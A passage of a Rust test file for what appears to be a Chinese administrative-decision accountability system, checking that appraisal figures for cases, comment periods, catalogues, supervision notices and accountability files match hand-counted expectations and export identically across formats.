//! Figures for an appraisal 考核: what hand-counted records come to, that every number is the acts that show it, and that the same
//! mark gives the same bytes; over the pure core, and over the application on both databases.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Cursor;
use std::path::Path;
use std::sync::Arc;

use calamine::{Data, Reader, Xlsx};
use dingce_app::figures_file::{FigureFormat, write};
use dingce_app::ports::EventStore;
use dingce_app::use_cases::{Asking, Mark, TakenFigures};
use dingce_domain::accountability::{
    AccountabilityAct, FreezeTrace, HandOverFile, RecordReceipt, RecordResult, RefuseClue, Subject,
};
use dingce_domain::catalogue::{
    AddEntry, CarriedFrom, Catalogue, CatalogueAct, CatalogueEvent, CatalogueKind, CompileCatalogue, ConsentBody,
    DropEntry, Entry as Listed, FinishEntry, Head, On, OpenAdjustment, PublishCatalogue, RecordConsent, Rules,
    TieEntry,
};
use dingce_domain::code::Code;
use dingce_domain::compliance::Entry;
use dingce_domain::figures::{
    Apart, CaseRecord, CatalogueFold, CommentsFold, Figure, FigureCode, Figures, Item, Period, Standing, Tally, With,
};
use dingce_domain::id::{CaseId, CatalogueId, EntryId, EventId, StreamId, SupervisionNoticeId};
use dingce_domain::occasion::Actor;
use dingce_domain::organisation::Organisation;
use dingce_domain::supervision::{AnswerNotice, IssueNotice, NoticeAct, NoticeKind, RecheckNotice};
use dingce_testkit::scenario::{World, steps};
use dingce_testkit::staff;
use dingce_tests::acting::{ask, asked, code, principal};
use dingce_tests::harness::{Backend, Node, Site};
use dingce_tests::on_both;
use jiff::ToSpan;
use jiff::civil::{Date, date};
use serde::Deserialize;
use serde_json::{Value, json};
use uuid::Uuid;

use super::accountability::{act, admit, clue, days, document, id as file_id};

on_both!(
    a_delayed_case_is_counted_act_by_act,
    notices_and_files_of_supervision_come_to_what_was_counted_by_hand,
    the_same_mark_gives_the_same_bytes,
    only_who_may_is_told_and_a_unit_of_its_own,
    what_could_be_a_formula_is_a_text,
    a_day_belongs_to_the_period_in_which_it_is_where_the_organ_is,
);

fn year_2024() -> Period {
    Period::of_year(2024).expect("a year")
}

fn figure(figures: &Figures, code: FigureCode) -> &Figure {
    figures.list.iter().find(|f| f.code == code && !f.about.part).unwrap_or_else(|| panic!("{code} is missing"))
}

/// Numerator and denominator of a whole.
fn numbers(figures: &Figures, code: FigureCode) -> (u64, Option<u64>) {
    let figure = figure(figures, code);
    (figure.numerator(), figure.denominator())
}

fn apart(figures: &Figures, code: FigureCode) -> Vec<(Apart, u64)> {
    figure(figures, code).apart().into_iter().collect()
}

/// What holds of all figures, whatever was counted.
fn sound(figures: &Figures) {
    for code in FigureCode::ALL {
        assert_eq!(figures.list.iter().filter(|f| f.code == *code && !f.about.part).count(), 1, "{code}");
    }
    for figure in &figures.list {
        let told = format!("{} of {:?}", figure.code, figure.about);
        let things: BTreeSet<&str> = figure.items.iter().map(|item| item.thing.as_str()).collect();
        assert_eq!(things.len(), figure.items.len(), "{told}: a thing stands in it twice");
        let counted = figure.items.iter().filter(|item| item.standing == Standing::Counted).count() as u64;
        let whole = figure.items.iter().filter(|item| item.standing.in_whole()).count() as u64;
        assert_eq!(figure.numerator(), counted, "{told}");
        match figure.denominator() {
            Some(denominator) => assert_eq!(denominator, whole, "{told}"),
            None => assert_eq!(counted, whole, "{told}: a number alone misses nothing"),
        }
        assert!(counted <= whole, "{told}");
        assert_eq!(figure.share().is_none(), figure.denominator().is_none_or(|d| d == 0), "{told}");
        let apart: u64 = figure.apart().values().sum();
        assert_eq!(whole + apart, figure.items.len() as u64, "{told}: nothing is lost");
        assert!(figure.items.is_sorted_by_key(|item| (item.day, item.act.stream, item.act.n)), "{told}");
        for item in &figure.items {
            assert!(!item.shown_by.contains(&item.act.n), "{told}: {item:?}");
            let excused = item.standing == Standing::Apart(Apart::Excused);
            assert!(!excused || item.leave.iter().any(|l| l.by.is_some() && !l.reason.is_empty()), "{told}: {item:?}");
        }
    }
    // Parts are a whole, taken apart.
    for code in FigureCode::ALL {
        let parts: Vec<&Item> =
            figures.list.iter().filter(|f| f.code == *code && f.about.part).flat_map(|f| &f.items).collect();
        if !parts.is_empty() {
            let of = |items: &mut dyn Iterator<Item = &Item>| -> BTreeSet<String> {
                items.map(|i| i.thing.clone()).collect()
            };
            assert_eq!(of(&mut parts.iter().copied()), of(&mut figure(figures, *code).items.iter()), "{code}");
        }
    }
}

// The pure core.

fn directory() -> Organisation {
    staff::directory()
        .into_iter()
        .fold(None, |state, event| {
            Some(Organisation::evolve(state, staff::DIRECTORY, &event).expect("the directory follows"))
        })
        .expect("a directory")
}

fn event_id(stream: u128, n: u64) -> EventId {
    EventId::new(Uuid::from_u128(stream << 64 | u128::from(n)))
}

/// The figures of what one world recorded, of which only the first events are known.
fn of_world(world: &World, period: Period, measured_on: Date, known: usize) -> Figures {
    let directory = directory();
    let with = With { directory: &directory, calendar: &world.calendar };
    let mut tally = Tally::new(period, measured_on, None);
    let events = (1..).zip(&world.history).take(known).map(|(n, (by, day, event))| {
        (event_id(1, n), Entry { n, day: *day, offline: false, evidence: &[], by, event })
    });
    let record = CaseRecord { id: CaseId::new(Uuid::from_u128(1)), events: events.collect() };
    if let Some(matter) = tally.take_case(&record, &world.def, with) {
        for consultation in &matter.consultations {
            tally.take_comments(&matter, CommentsFold::new(*consultation));
        }
    }
    tally.finish()
}

#[derive(Debug, Deserialize)]
struct Clean {
    name: String,
    definition: Option<String>,
    #[serde(default)]
    given: Vec<Value>,
}

fn clean() -> Vec<Clean> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("data/compliance/clean.yaml");
    let text = std::fs::read_to_string(path).expect("the data of the test");
    serde_saphyr::from_str(&text).expect("the data can be read")
}

fn played(world: &mut World, name: &str, given: &[Value]) {
    for step in given {
        steps::play(world, step).unwrap_or_else(|why| panic!("{name}: {step}: {why}"));
    }
}

/// The roads of `data/compliance/clean.yaml`: each went through the real `decide`.
fn roads() -> BTreeMap<String, World> {
    let roads = clean().into_iter().filter(|clean| !clean.given.is_empty()).map(|clean| {
        let mut world = World::default();
        if let Some(folder) = &clean.definition {
            world.def = dingce_testkit::law::other(folder).definition;
        }
        played(&mut world, &clean.name, &clean.given);
        (clean.name, world)
    });
    roads.collect()
}

#[test]
fn every_number_of_every_road_is_its_acts_at_every_moment() {
    for (name, world) in roads() {
        for known in 1..=world.history.len() {
            let today = world.history[known - 1].1;
            let figures =
                of_world(&world, Period::new(date(2020, 1, 1), date(2029, 12, 31)).expect("ten years"), today, known);
            sound(&figures);
            for item in figures.list.iter().flat_map(|f| &f.items) {
                for n in std::iter::once(item.act.n).chain(item.shown_by.iter().copied()) {
                    assert!((1..=known as u64).contains(&n), "{name}: {item:?} names what is not there");
                }
                let (_, _, event) = &world.history[usize::try_from(item.act.n).expect("a number") - 1];
                assert_eq!((item.act.event, item.act.kind.as_str()), (event_id(1, item.act.n), event.kind()), "{name}");
            }
        }
    }
}

/// Counted by hand from the steps of the road: `contested` in `data/compliance/clean.yaml`.
#[test]
fn a_contested_decision_comes_to_what_was_counted_by_hand() {
    let roads = roads();
    let world = &roads["contested"];
    let figures = of_world(world, year_2024(), world.today, usize::MAX);
    use FigureCode as C;
    for (code, numerator, denominator) in [
        (C::CasesDecided, 1, None),
        (C::ParticipationHeld, 1, Some(1)),
        (C::ExpertsHeard, 1, Some(1)),
        (C::RiskAssessed, 1, Some(1)),
        (C::LegalityReviewed, 1, Some(1)),
        (C::ReviewedBeforeMeeting, 1, Some(1)),
        (C::DiscussedCollectively, 1, Some(1)),
        // Shortened, with the reason in the notice.
        (C::CommentPeriods, 0, Some(0)),
        // Five experts, of whom the first opposes.
        (C::ExpertOpinions, 5, None),
        (C::ExpertOpinionsOpposing, 1, Some(5)),
        // Two rounds: to be amended, then lawful. The first took its 14 days, the second three by the reviewer's own statement.
        (C::SubmissionsReturned, 0, Some(2)),
        (C::ReviewsLawful, 1, Some(2)),
        (C::ReviewsToAmend, 1, Some(2)),
        (C::ReviewsRiskStated, 0, Some(2)),
        (C::ReviewsNotPassed, 0, Some(2)),
        (C::ReviewersHadTime, 1, Some(1)),
        // Of three members two dissent; the head decides against them.
        (C::Dissents, 2, Some(3)),
        (C::Reservations, 0, Some(3)),
        (C::AgainstMajority, 1, Some(1)),
        (C::DecisionsNotAdopted, 0, Some(1)),
        (C::DecisionsPublished, 1, Some(1)),
        (C::PublishedOnTime, 1, Some(1)),
        (C::VolumesClosed, 1, None),
        (C::VolumesOnTime, 1, Some(1)),
        (C::ExecutionsSuspended, 1, None),
        (C::ExecutionsTerminated, 1, None),
        (C::ExecutionsCompleted, 0, None),
        (C::Irregularities, 0, None),
        (C::IrregularitiesCured, 0, Some(0)),
        (C::HearingsHeld, 0, None),
        (C::NoticesIssued, 0, None),
    ] {
        assert_eq!(numbers(&figures, code), (numerator, denominator), "{code}: {:?}", figure(&figures, code).items);
    }
    assert_eq!(apart(&figures, C::CommentPeriods), [(Apart::Excused, 1)]);
    assert_eq!(apart(&figures, C::ReviewersHadTime), [(Apart::Excused, 1)]);
    let period = &figure(&figures, C::CommentPeriods).items[0];
    assert_eq!(period.leave[0].reason, "汛期将至，须在四月前完成。");
    assert_eq!(figure(&figures, C::CommentPeriods).share(), None, "a share of nothing is none");
    // Publication was in the statutory time and in the target.
    let on_time = |clock: &str| {
        let of = |f: &&Figure| f.about.clock.as_ref().is_some_and(|c| c.clock.as_str() == clock);
        let part = figures.list.iter().find(of).unwrap_or_else(|| panic!("no {clock}"));
        (part.about.unit, part.numerator(), part.denominator())
    };
    assert_eq!(on_time("publication_period"), (Some(staff::unit("office")), 1, Some(1)));
    assert_eq!(on_time("dossier_period"), (Some(staff::unit("archives")), 1, Some(1)));
    let floor =
        figures.list.iter().filter_map(|f| f.about.clock.as_ref()).find(|c| c.clock.as_str() == "legality_period");
    assert_eq!(floor, None, "a guaranteed time is nobody's to miss");
}

/// In `plain` experts were not heard, because the matter is not technical; somebody recorded that and why.
#[test]
fn who_excused_what_is_told_apart() {
    let roads = roads();
    let world = &roads["plain"];
    let figures = of_world(world, year_2024(), world.today, usize::MAX);
    assert_eq!(numbers(&figures, FigureCode::ExpertsHeard), (0, Some(0)));
    assert_eq!(apart(&figures, FigureCode::ExpertsHeard), [(Apart::Excused, 1)]);
    let [leave] = &figure(&figures, FigureCode::ExpertsHeard).items[0].leave[..] else { panic!("one ground") };
    assert!(
        leave.by.as_ref().is_some_and(|by| !by.name.is_empty()) && !leave.reason.is_empty() && !leave.basis.is_empty()
    );
    assert_eq!(numbers(&figures, FigureCode::Dissents), (1, Some(4)));
    assert_eq!(numbers(&figures, FigureCode::ExecutionCommentsAnswered), (1, Some(1)));
    assert_eq!(numbers(&figures, FigureCode::CommentPeriods), (1, Some(1)));
    let days = figure(&figures, FigureCode::CommentPeriods).days().expect("a period has days");
    assert_eq!((days.total, days.least, days.most, days.of), (30, 30, 30, 1));
    // The evaluation came in the next year.
    assert_eq!(numbers(&figures, FigureCode::EvaluationsConcluded), (0, None));
    let next = of_world(world, Period::of_year(2025).expect("a year"), world.today, usize::MAX);
    assert_eq!(numbers(&next, FigureCode::EvaluationsConcluded), (1, None));
    assert_eq!(numbers(&next, FigureCode::CasesDecided), (0, None));
}

/// Counted by hand from the steps of `plain`, `full`, `corrected` and `contested`, and of two roads that leave them.
#[test]
fn what_ends_a_case_and_what_follows_it_comes_to_what_was_counted_by_hand() {
    use FigureCode as C;
    let roads = roads();
    let ten_years = || Period::new(date(2020, 1, 1), date(2029, 12, 31)).expect("ten years");
    let of = |world: &World| of_world(world, ten_years(), world.today, usize::MAX);
    let expected = |world: &World, name: &str, all: &[(FigureCode, u64, Option<u64>)]| {
        let figures = of(world);
        sound(&figures);
        for (code, numerator, denominator) in all {
            let items = &figure(&figures, *code).items;
            assert_eq!(numbers(&figures, *code), (*numerator, *denominator), "{name}, {code}: {items:?}");
        }
    };
    // Carried out, evaluated within its time, and each of the three volumes closed.
    expected(
        &roads["plain"],
        "plain",
        &[
            (C::ExecutionsCompleted, 1, None),
            (C::EvaluationsReported, 1, Some(1)),
            (C::EvaluationsOnTime, 1, Some(1)),
            (C::EvaluationsConcluded, 1, None),
            (C::VolumesClosed, 3, None),
            (C::CasesTerminated, 0, None),
        ],
    );
    // An evaluation that was begun and of which nothing came by its day.
    let plain = &roads["plain"];
    let begun = plain.history.iter().position(|(_, _, e)| e.kind() == "evaluation_started").expect("it begins") + 1;
    let waiting = of_world(plain, ten_years(), plain.history[begun - 1].1, begun);
    assert_eq!(numbers(&waiting, C::EvaluationsReported), (0, Some(0)));
    assert_eq!(apart(&waiting, C::EvaluationsReported), [(Apart::NotYet, 1)]);
    assert_eq!(apart(&waiting, C::EvaluationsOnTime), [(Apart::Running, 1)]);
    let late = of_world(plain, ten_years(), date(2029, 12, 31), begun);
    assert_eq!(numbers(&late, C::EvaluationsReported), (0, Some(1)));
    assert_eq!(numbers(&late, C::EvaluationsOnTime), (0, Some(1)));
    // One hearing, held to its report.
    expected(&roads["full"], "full", &[(C::HearingsHeld, 1, None), (C::ExpertsHeard, 1, Some(1))]);
    // One irregularity of the order of speaking, cured by the meeting that was held again.
    expected(&roads["corrected"], "corrected", &[(C::Irregularities, 1, None), (C::IrregularitiesCured, 1, Some(1))]);
    // Ended before any decision.
    let mut ended = World::default();
    played(&mut ended, "ended", &[json!("case_opened"), json!({ "terminate_case": {} })]);
    expected(
        &ended,
        "ended",
        &[(C::CasesTerminated, 1, None), (C::CasesDecided, 0, None), (C::VolumesClosed, 0, None)],
    );
    // As `contested`, but the suspended execution is adjusted by another decision and not ended.
    let contested = clean().into_iter().find(|clean| clean.name == "contested").expect("the road");
    let mut adjusted = World::default();
    let (last, steps) = contested.given.split_last().expect("steps");
    assert_eq!(last, &json!({ "terminate_execution": {} }));
    played(&mut adjusted, "adjusted", steps);
    played(&mut adjusted, "adjusted", &[json!({ "adjust_execution": {} })]);
    expected(
        &adjusted,
        "adjusted",
        &[(C::ExecutionsSuspended, 1, None), (C::ExecutionsAdjusted, 1, None), (C::ExecutionsTerminated, 0, None)],
    );
}

#[test]
fn of_nothing_there_is_no_share() {
    let figures = Tally::new(year_2024(), date(2024, 12, 31), None).finish();
    sound(&figures);
    assert_eq!(figures.list.len(), FigureCode::ALL.len());
    for figure in &figures.list {
        assert_eq!((figure.numerator(), figure.share(), figure.days()), (0, None, None), "{}", figure.code);
        assert_eq!(figure.denominator(), figure.code.is_share().then_some(0), "{}", figure.code);
    }
}

/// What is decided on the last day of a year is of that year, also where it was entered later.
#[test]
fn the_last_day_of_a_year_is_in_it() {
    let roads = roads();
    let world = &roads["plain"];
    let whole = Period::new(date(2020, 1, 1), date(2029, 12, 31)).expect("ten years");
    let figures = of_world(world, whole, world.today, usize::MAX);
    let day = figure(&figures, FigureCode::CasesDecided).items[0].day;
    for (from, to, counted) in [
        (day, day, 1),
        (day.yesterday().expect("a day"), day, 1),
        (day, day.tomorrow().expect("a day"), 1),
        (day.tomorrow().expect("a day"), day.tomorrow().expect("a day"), 0),
        (day.yesterday().expect("a day"), day.yesterday().expect("a day"), 0),
    ] {
        let figures = of_world(world, Period::new(from, to).expect("a period"), world.today, usize::MAX);
        assert_eq!(numbers(&figures, FigureCode::CasesDecided), (counted, None), "{from} to {to}");
    }
}

// Catalogues.

struct Kept {
    id: CatalogueId,
    state: Option<Catalogue>,
    events: Vec<(Date, CatalogueEvent)>,
}

impl Kept {
    fn of_year(number: u128, year: i16) -> Self {
        let mut kept = Self { id: CatalogueId::new(Uuid::from_u128(number)), state: None, events: Vec::new() };
        let head = Head { kind: CatalogueKind::Decision, year, batch: 1, title: "目录".to_owned(), doc_no: None };
        let rules = Rules { required: BTreeSet::new(), report_by: None };
        kept.does(date(year, 1, 10), CatalogueAct::Compile(CompileCatalogue { head, rules }));
        kept
    }

    fn does(&mut self, day: Date, act: CatalogueAct) {
        let event = Catalogue::decide(self.state.as_ref(), act, On { today: day, day, offline: false });
        let event = event.unwrap_or_else(|refused| panic!("{refused}"));
        self.state = Some(Catalogue::evolve(self.state.take(), self.id, &event).expect("it follows"));
        self.events.push((day, event));
    }

    fn lists(&mut self, day: Date, entry: Listed) {
        self.does(
            day,
            CatalogueAct::AddEntry(AddEntry { entry, nominated_by: String::new(), reason: "补充".to_owned() }),
        );
    }

    fn publishes(&mut self, day: Date) {
        for body in [ConsentBody::Government, ConsentBody::Party] {
            self.does(
                day,
                CatalogueAct::RecordConsent(RecordConsent {
                    body,
                    granted: true,
                    number: "第1次会议".to_owned(),
                    decided_on: day,
                    remarks: String::new(),
                    documents: Vec::new(),
                }),
            );
        }
        let channels = vec!["网站".to_owned()];
        self.does(day, CatalogueAct::Publish(PublishCatalogue { published_on: day, doc_no: None, channels }));
    }

    fn fold(&self, until: Date) -> CatalogueFold {
        let mut fold = CatalogueFold::new(self.id, until);
        for (n, (day, event)) in (1..).zip(&self.events) {
            fold.take(event_id(7, n), n, *day, &Actor::System, event).expect("it follows");
        }
        fold
    }
}

fn entry(number: u128) -> EntryId {
    EntryId::new(Uuid::from_u128(number))
}

/// Five entries: one is tied to a case, one is finished, one is dropped, one is carried over, and of one nothing came.
#[test]
fn every_entry_of_a_catalogue_is_accounted_for() {
    let mut kept = Kept::of_year(1, 2024);
    for number in 1..=5 {
        kept.lists(date(2024, 1, 11), Listed::named(entry(number), &format!("事项{number}")));
    }
    kept.publishes(date(2024, 2, 29));
    let tie = TieEntry { entry: entry(1), case: CaseId::new(Uuid::from_u128(9)), reason: "立项".to_owned() };
    kept.does(date(2024, 5, 6), CatalogueAct::LinkEntry(tie.clone()));
    let finish = FinishEntry { entry: entry(2), finished_on: date(2024, 6, 3), how: "已印发。".to_owned() };
    kept.does(date(2024, 6, 3), CatalogueAct::FinishEntry(finish));
    let open = OpenAdjustment { reason: "情况变化".to_owned(), proposed_by: "区水务局".to_owned() };
    kept.does(date(2024, 7, 1), CatalogueAct::OpenAdjustment(open));
    kept.does(
        date(2024, 7, 1),
        CatalogueAct::DropEntry(DropEntry { entry: entry(3), reason: "条件不具备".to_owned() }),
    );
    kept.publishes(date(2024, 7, 2));
    // Entry 5 is tied a day after the year.
    let late = TieEntry { entry: entry(5), ..tie };
    kept.does(date(2025, 1, 1), CatalogueAct::LinkEntry(late));
    let mut next = Kept::of_year(2, 2025);
    let from = CarriedFrom { catalogue: kept.id, entry: entry(4) };
    next.lists(date(2025, 1, 11), Listed { carried_from: Some(from), ..Listed::named(entry(14), "事项4") });
    next.publishes(date(2025, 2, 1));

    let taken = |period: Period| {
        let mut tally = Tally::new(period, date(2025, 6, 1), None);
        for catalogue in [&kept, &next] {
            tally.take_catalogue(catalogue.fold(period.to()));
        }
        let figures = tally.finish();
        sound(&figures);
        figures
    };
    use FigureCode as C;
    let figures = taken(year_2024());
    for (code, numerator) in
        [(C::EntriesStarted, 2), (C::EntriesCarriedOver, 0), (C::EntriesDropped, 1), (C::EntriesNeverStarted, 2)]
    {
        assert_eq!(numbers(&figures, code), (numerator, Some(5)), "{code}, by the end of 2024");
    }
    let dropped = figure(&figures, C::EntriesDropped).items.iter().find(|i| i.standing == Standing::Counted);
    assert_eq!(dropped.map(|item| item.leave[0].reason.as_str()), Some("条件不具备"));
    // Two years on end: entry 4 is carried over, and 5 is started; the new catalogue's own entry is counted too.
    let both = taken(Period::new(date(2024, 1, 1), date(2025, 12, 31)).expect("two years"));
    for (code, numerator) in
        [(C::EntriesStarted, 3), (C::EntriesCarriedOver, 1), (C::EntriesDropped, 1), (C::EntriesNeverStarted, 1)]
    {
        assert_eq!(numbers(&both, code), (numerator, Some(6)), "{code}, by the end of 2025");
    }
    // Before it was published, nothing was listed.
    let early = taken(Period::new(date(2024, 1, 1), date(2024, 2, 28)).expect("a period"));
    assert_eq!(numbers(&early, C::EntriesStarted), (0, Some(0)));
    let leap = taken(Period::new(date(2024, 1, 1), date(2024, 2, 29)).expect("a period"));
    assert_eq!(numbers(&leap, C::EntriesNeverStarted), (5, Some(5)), "published on the leap day");
}

// The application.

fn of_2024() -> Asking {
    Asking { period: year_2024(), mark: None }
}

async fn taken(node: &Node, who: &str, asking: Asking) -> Arc<TakenFigures> {
    let organ = staff::unit("organ");
    node.app.figures(principal(who), organ, asking).await.unwrap_or_else(|error| panic!("{who}: {error}"))
}

/// Every act that a figure names is in the store, under the id and the kind that it says.
async fn acts_exist(node: &Node, figures: &Figures) {
    let mut by_stream: BTreeMap<StreamId, BTreeMap<u64, (EventId, String)>> = BTreeMap::new();
    for item in figures.list.iter().flat_map(|f| &f.items) {
        let acts = by_stream.entry(item.act.stream).or_default();
        acts.insert(item.act.n, (item.act.event, item.act.kind.clone()));
    }
    for (stream, acts) in by_stream {
        let numbers: Vec<u64> = acts.keys().copied().collect();
        let stored = node.store.events_at(stream, &numbers).await.expect("the store answers");
        let found: BTreeMap<u64, (EventId, String)> =
            stored.into_iter().map(|s| (s.n, (s.event.event, s.event.kind))).collect();
        assert_eq!(found, acts, "{stream}");
    }
}

async fn a_delayed_case_is_counted_act_by_act(backend: Backend) {
    let site = Site::new(backend).await;
    let node = site.node(1).await;
    let case = node.delayed().await;
    // Another is not decided, and is in no figure of decided cases.
    node.road_to("add_draft_version").await;
    let taken = taken(&node, "auditor", of_2024()).await;
    let figures = &taken.figures;
    sound(figures);
    acts_exist(&node, figures).await;
    use FigureCode as C;
    for (code, numerator, denominator) in [
        (C::CasesDecided, 1, None),
        (C::ParticipationHeld, 1, Some(1)),
        (C::ExpertsHeard, 0, Some(0)),
        (C::CommentPeriods, 1, Some(1)),
        // Two comments: the first is adopted in full, the second is not.
        (C::CommentsReceived, 2, None),
        (C::CommentsAnswered, 2, Some(2)),
        (C::CommentsAdopted, 1, Some(2)),
        (C::CommentsPartlyAdopted, 0, Some(2)),
        (C::CommentsNotAdopted, 1, Some(2)),
        (C::ReviewsLawful, 1, Some(1)),
        (C::ReviewersHadTime, 1, Some(1)),
        (C::Dissents, 0, Some(4)),
        (C::DecisionsPublished, 1, Some(1)),
        (C::PublishedOnTime, 0, Some(1)),
        // The supplement, the statutory time for publication, and its target.
        (C::ActsOnTime, 0, Some(3)),
    ] {
        assert_eq!(numbers(figures, code), (numerator, denominator), "{code}: {:?}", figure(figures, code).items);
    }
    assert_eq!(apart(figures, C::ExpertsHeard), [(Apart::Excused, 1)]);
    // The clocks that its publication and issue started go on.
    assert!(
        matches!(apart(figures, C::ActsOnTime)[..], [(Apart::Running, 1..)]),
        "{:?}",
        apart(figures, C::ActsOnTime)
    );
    let parts: BTreeMap<(String, String), (u64, Option<u64>)> = figures
        .list
        .iter()
        .filter(|f| f.about.part && f.denominator() != Some(0))
        .map(|f| {
            let clock = f.about.clock.as_ref().expect("a clock");
            let unit = taken.unit(f.about.unit.expect("a unit"));
            ((unit, clock.clock.to_string()), (f.numerator(), f.denominator()))
        })
        .collect();
    let late = (0, Some(1));
    let expected = [
        (("区政府办公室", "publication_period"), late),
        (("区政府办公室", "publication_target"), late),
        (("区水务局", "supplement_period"), late),
    ];
    let expected = expected.map(|((unit, clock), numbers)| ((unit.to_owned(), clock.to_owned()), numbers));
    assert_eq!(parts, BTreeMap::from(expected));
    // Of 40 days none is the reviewer's: the supplement was the unit's.
    let supplement = figure(figures, C::ActsOnTime).items.iter().find(|i| i.thing.ends_with("supplement_period"));
    assert_eq!(supplement.and_then(|item| item.days), Some(40));
    let decided = &figure(figures, C::CasesDecided).items[0];
    assert_eq!((decided.case, decided.thing.as_str()), (Some(case), case.to_string().as_str()));
    // A day too late by one that only advises is told as such.
    let binds =
        |clock: &str| taken.clocks.iter().find(|(at, _)| at.clock.as_str() == clock).map(|(_, told)| told.binds);
    assert_eq!((binds("publication_period"), binds("publication_target")), (Some(true), Some(false)));
}

/// Three notices and three accountability files, counted by hand.
async fn notices_and_files_of_supervision_come_to_what_was_counted_by_hand(backend: Backend) {
    let site = Site::new(backend).await;
    let node = site.node(7).await;
    let (case, other) = (node.open_case().await, node.open_case().await);
    let papers = document(&node, "督察建议书").await;
    let issue = async |case: CaseId, number: &str| {
        let given = IssueNotice {
            notice: NoticeKind::Advice,
            number: number.to_owned(),
            unit: staff::unit("water"),
            case,
            correct: vec!["补充论证材料。".to_owned()],
            article: "《重大行政决策程序暂行条例》第8条".to_owned(),
            issued_on: node.app.today(),
            within: days(10),
            documents: papers.clone(),
        };
        let done = node.app.issue_notice(asked("auditor"), given).await.expect("issued");
        SupervisionNoticeId::new(done.stream.value)
    };
    let answer = async |notice: SupervisionNoticeId| {
        let given = AnswerNotice { correction: "已补充。".to_owned(), documents: papers.clone() };
        node.app.act_on_notice(asked("officer"), notice, NoticeAct::Answer(given)).await.expect("answered");
    };
    // The first is answered in three days, is not in order, and is answered in six where five were given.
    let first = issue(case, "督建〔2024〕1号").await;
    // The second is never answered.
    let second = issue(other, "督建〔2024〕2号").await;
    let clue = async |case: CaseId| {
        let given = clue(Subject::Case(case), &node);
        file_id(&node.app.receive_clue(asked("auditor"), given).await.expect("received"))
    };
    // Of three files one has a result, one is refused, and one waits.
    let (resulted, refused, _) = (clue(case).await, clue(case).await, clue(other).await);
    let refuse = RefuseClue { reason: "不属于受理范围。".to_owned(), article: "第38条".to_owned() };
    act(&node, refused, AccountabilityAct::Refuse(refuse)).await.expect("refused");
    act(&node, resulted, admit()).await.expect("admitted");
    let freeze = FreezeTrace { as_known_on: node.app.today() };
    act(&node, resulted, AccountabilityAct::Freeze(freeze)).await.expect("frozen");
    let over = HandOverFile {
        body: "区监察委员会".to_owned(),
        article: "《监察法》第34条".to_owned(),
        handed_on: node.app.today(),
        documents: papers.clone(),
    };
    act(&node, resulted, AccountabilityAct::HandOver(over)).await.expect("handed over");
    let receipt = RecordReceipt {
        received_by: "案件监督管理室".to_owned(),
        received_on: node.app.today(),
        documents: papers.clone(),
    };
    act(&node, resulted, AccountabilityAct::RecordReceipt(receipt)).await.expect("acknowledged");
    node.days_pass(3).await;
    answer(first).await;
    let again =
        RecheckNotice {
            passed: false, seen: "查看材料。".to_owned(), within: Some(days(5)), documents: Vec::new()
        };
    node.app.act_on_notice(asked("auditor"), first, NoticeAct::Recheck(again)).await.expect("not in order");
    node.days_pass(6).await;
    node.app.settle().await.expect("settled");
    answer(first).await;
    node.days_pass(3).await;
    node.app.settle().await.expect("settled");
    let stated = RecordResult {
        stated_on: node.app.today(),
        number: "监函〔2024〕8号".to_owned(),
        statement: "已依法处理。".to_owned(),
        documents: papers.clone(),
    };
    act(&node, resulted, AccountabilityAct::RecordResult(stated)).await.expect("a result came");
    // The third has its days still before it.
    let third = issue(case, "督建〔2024〕3号").await;

    let taken = taken(&node, "auditor", of_2024()).await;
    let figures = &taken.figures;
    sound(figures);
    acts_exist(&node, figures).await;
    use FigureCode as C;
    assert_eq!(numbers(figures, C::NoticesIssued), (3, None));
    // In time: the first. Missed: its second round, and the second notice. The third runs.
    assert_eq!(numbers(figures, C::NoticesOnTime), (1, Some(3)), "{:?}", figure(figures, C::NoticesOnTime).items);
    assert_eq!(apart(figures, C::NoticesOnTime), [(Apart::Running, 1)]);
    assert_eq!(numbers(figures, C::AccountabilityFiles), (3, None));
    assert_eq!(numbers(figures, C::AccountabilityResults), (1, None));
    let of = |notice: SupervisionNoticeId| {
        let items = figure(figures, C::NoticesOnTime).items.iter();
        let mut of: Vec<_> = items.filter(|i| i.act.stream == notice.into()).map(|i| (i.standing, i.day)).collect();
        of.sort_by_key(|(_, day)| *day);
        of
    };
    let day = |n: i64| node.app.today().saturating_sub(n.days());
    // Issued twelve days ago: answered on the third day, and due again on the eighth; the second was due on the tenth.
    assert_eq!(of(first), [(Standing::Counted, day(9)), (Standing::Missed, day(3))]);
    assert_eq!(of(second), [(Standing::Missed, day(1))]);
    assert_eq!(of(third), [(Standing::Apart(Apart::Running), day(0))]);
    let result = &figure(figures, C::AccountabilityResults).items[0];
    assert_eq!((result.act.stream, result.case), (resulted.into(), Some(case)));
    // In another year there is nothing of it, and the undertaking unit is told of notices alone.
    let other_year = Asking { period: Period::of_year(2023).expect("a year"), mark: None };
    let before = self::taken(&node, "auditor", other_year).await;
    for code in [C::NoticesIssued, C::AccountabilityFiles, C::AccountabilityResults] {
        assert_eq!(numbers(&before.figures, code), (0, None), "{code}");
    }
    assert_eq!(numbers(&before.figures, C::NoticesOnTime), (0, Some(0)));
    let own = self::taken(&node, "officer", of_2024()).await;
    assert_eq!(numbers(&own.figures, C::NoticesIssued), (3, None));
    assert!(own.withheld.contains(&C::AccountabilityFiles) && own.withheld.contains(&C::AccountabilityResults));
}

async fn the_same_mark_gives_the_same_bytes(backend: Backend) {
    let site = Site::new(backend).await;
    let node = site.node(2).await;
    let case = node.road_to("issue_decision").await;
    node.app.settle().await.expect("background work is done");
    let first = taken(&node, "auditor", of_2024()).await;
    let mark: Mark = first.mark.to_string().parse().expect("a mark is read back");
    assert_eq!(mark, first.mark);
    let files = |taken: &TakenFigures| -> Vec<Vec<u8>> {
        [FigureFormat::Json, FigureFormat::Csv, FigureFormat::ActsCsv, FigureFormat::Xlsx]
            .map(|format| write(taken, format).expect("it is written"))
            .into()
    };
    let before = files(&first);
    assert_eq!(files(&first), before, "written twice");

    // The case goes on; a unit is named anew; another node, on another day, is asked.
    node.days_pass(3).await;
    node.done(case, "publish_decision", Value::Null).await;
    node.road_to("add_draft_version").await;
    node.days_pass(400).await;
    let later = site.node(3).await;
    later.clock.move_to(node.app.today(), 10);
    let again = taken(&later, "auditor", Asking { period: year_2024(), mark: Some(mark) }).await;
    assert_eq!(again.figures, first.figures);
    assert_eq!(files(&again), before, "as they were");
    let now = taken(&later, "auditor", of_2024()).await;
    assert_ne!(now.figures, first.figures);
    assert_eq!(numbers(&now.figures, FigureCode::DecisionsPublished), (1, Some(1)));
